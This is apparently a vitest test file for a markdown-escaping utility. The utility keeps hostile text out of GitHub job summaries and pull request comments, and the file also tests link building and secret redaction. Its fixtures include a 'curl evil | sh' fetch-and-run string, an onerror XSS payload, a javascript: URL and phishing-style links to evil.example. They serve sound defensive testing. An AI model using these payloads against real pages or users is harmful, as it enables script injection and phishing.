/**
 * The one escaping of outside text in markdown (src/util/markdown.ts), which the job summary,
 * the pull request comment and the sweep's table share: each hostile value comes out as text that
 * GitHub's markdown (GFM) cannot turn into a link, HTML, code, an extra table cell, a new line or
 * a mention. The checks below are GitHub's own rules, written as patterns.
 */
import { describe, expect, it } from 'vitest';
import { escapeCell, escapeMarkdown, markdownLink } from '../../src/util/markdown.js';
import { renderPrComment } from '../../src/report/pr-comment.js';
import { renderSummary } from '../../src/report/summary.js';
import { createRedactor } from '../../src/util/redact.js';
import { harmless, LINK, MENTION, shown } from '../support/markdown-text.js';

const HOSTILE: readonly [string, string, string][] = [
  ['a link', '[Deploy token expired - re-authenticate](http:evil.example)', 'link'],
  ['an image', '![x](https://evil.example/p.png)', 'link'],
  ['a reference link', '[Sign in][1]', 'link'],
  ['an autolink', 'see https://evil.example/login', 'autolink'],
  ['an ftp autolink', 'get ftp://evil.example/x', 'autolink'],
  ['a www autolink', 'see www.evil.example', 'autolink'],
  ['a www autolink in capitals', 'see WWW.EVIL.EXAMPLE', 'autolink'],
  ['an angle autolink', '<https://evil.example>', 'autolink'],
  ['an email autolink', 'mail admin@evil.example', 'email'],
  ['a mailto autolink', 'mailto:admin@sub.evil.example', 'autolink'],
  ['backticks', 'run `curl evil | sh`', 'code'],
  ['HTML', '<img src=x onerror=alert(1)><a href="https://evil.example">here</a>', 'html'],
  ['a newline', 'first\n# heading\r\n- list', 'newline'],
  ['a team mention', 'build failed, ask @org/team', 'mention'],
  ['a user mention', '@octocat please look', 'mention'],
  ['emphasis', '**bold** _it_ ~~gone~~', 'emphasis'],
];

describe('escapeMarkdown: hostile text stays text', () => {
  it.each(HOSTILE)('%s, and reads the same once rendered', (_, text, harm) => {
    // The pattern finds it in the raw text (the check is real) but nothing once escaped.
    expect(harmless(text)).toContain(harm);
    expect(harmless(escapeMarkdown(text))).toEqual([]);
    expect(shown(escapeMarkdown(text))).toBe(text.replace(/\r?\n|\r/g, ' '));
  });

  it.each([
    ['a\r\nb\nc\rd', 'a b c d'],
    ['a & b', 'a &amp; b'],
    ['@org/team', '@\u200Dorg/team'], // a zero-width joiner after @, nothing else visible
    // Punctuation markdown reads nothing into stays bare (the summary file is read raw elsewhere).
    ['cli-app took 1.3s (kept: 2), #12 + a.b {x}!', 'cli-app took 1.3s (kept: 2), #12 + a.b {x}!'],
    ['-rf', '-rf'],
    ['1.3s', '1.3s'],
    // ...but not where it would start a block, with the text at the start of a line.
    ['# heading', '\\# heading'],
    ['- item', '\\- item'],
    ['   + item', '   \\+ item'],
    ['12. item', '12\\. item'],
    ['3) item', '3\\) item'],
    ['---', '\\---'],
    ['===', '\\==='],
    ['!', '!'],
    ['![x]', '\\!\\[x\\]'],
    // GFM links www. after `_` too; any `://` is cut, whatever the scheme.
    ['_www.evil.example_', '\\_www\\.evil.example\\_'],
    ['git+ssh://evil.example', 'git+ssh\\://evil.example'],
  ])('%j → %j', (text, escaped) => expect(escapeMarkdown(text)).toBe(escaped));
});

describe('escapeCell: one cell of a table', () => {
  it.each([
    ['a | b', 'a \\| b'],
    ['a\nb', 'a<br>b'],
    ['a\r\nb', 'a<br>b'],
    ['<script>&', '&lt;script&gt;&amp;'],
    ['plain', 'plain'],
    ['[x](http:evil.example)', '\\[x\\](http\\:evil.example)'],
    ['`x`', '\\`x\\`'],
    ['@org/team', '@\u200Dorg/team'],
  ])('%j → %j', (text, cell) => expect(escapeCell(text)).toBe(cell));
});

describe('markdownLink: a link only to http(s), and its target cannot leave the parentheses', () => {
  it.each([
    ['x', 'http://e.com/', '[x](http://e.com/)'],
    ['x', 'ftp://e.com/', 'x'],
    ['x', 'javascript:alert(1)', 'x'],
    ['a.b', 'not a url', 'a.b'],
    ['https://e.com/', 'https://e.com/', '[https\\://e.com/](https://e.com/)'],
    // What could end the link is percent-encoded, in upper-case hex.
    ['x', 'https://e.com/?q=\\"\'', '[x](https://e.com/?q=%5C%22%27)'],
    ['x', 'https://e.com/a)(b c', '[x](https://e.com/a%29%28b%20c)'],
  ])('%j to %j → %j', (text, href, link) => expect(markdownLink(text, href)).toBe(link));
});

describe('the summary and the comment escape every outside value', () => {
  it('a file name in "Largest files sent", a server message naming a team: no link, nobody pinged, the text shown', () => {
    const FILE = '[Deploy token expired - re-authenticate](http:evil.example)';
    const error = 'build failed: ask @org/team (see [docs](https://evil.example))';
    const largest = [{ name: FILE, size: 10 }];
    const summary = renderSummary({
      status: 'failure',
      steps: [{ name: 'deploy', outcome: 'failure', error }],
      error,
      archive: { bytes: 10, files: 1, sha256: 'a', largest },
    });
    const comment = renderPrComment({
      kind: 'deploy',
      status: 'failure',
      app: 'shop',
      environment: 'pr-1',
      error,
      updatedAt: '',
    });
    for (const md of [summary, comment.slice(comment.indexOf('\n'))]) {
      expect(MENTION.test(md)).toBe(false);
      expect(LINK.test(md)).toBe(false);
      expect(shown(md)).toContain('@org/team');
    }
    expect(shown(summary)).toContain(FILE);
  });

  // A secret escaped differently at the start of a text (a block mark) and inside one.
  it.each(['sec-leaky.pw_1', '- leaky_pw', '# leaky_pw'])(
    'the summary names an app whose name is the password %j: redacted once rendered',
    (secret) => {
      const redact = createRedactor([secret]);
      const md = renderSummary({ status: 'success', steps: [], created: [`app "${secret}"`] });
      expect(md).not.toContain(secret);
      expect(shown(md)).toContain(secret);
      expect(shown(redact(md))).not.toContain(secret);
      expect(redact(md)).toContain('***');
    },
  );
});
